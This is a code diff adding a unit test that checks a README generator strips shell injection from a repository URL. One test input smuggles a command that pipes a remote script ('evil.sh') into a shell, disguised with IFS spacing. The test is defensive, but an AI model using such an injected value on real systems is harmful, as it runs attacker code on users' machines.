@@ -22,4 +22,14 @@ describe('projectReadme', () => {
     expect(readme).not.toContain('## Live Demo');
     expect(readme).toContain('Built by Anonymous');
   });
+
+  it('puts only a plain repository address in the clone line', () => {
+    const hostile = 'https://github.com/pia/compost;curl${IFS}evil.sh|sh';
+    const readme = projectReadme(project({ githubUrl: hostile }), 'Pia Planter');
+    expect(readme).not.toContain('curl');
+    expect(readme).toContain('git clone <repository-url>/compost-club');
+    expect(projectReadme(project({ githubUrl: 'https://github.com/pia/compost-club.git/' }), 'Pia')).toContain(
+      'git clone https://github.com/pia/compost-club`',
+    );
+  });
 });
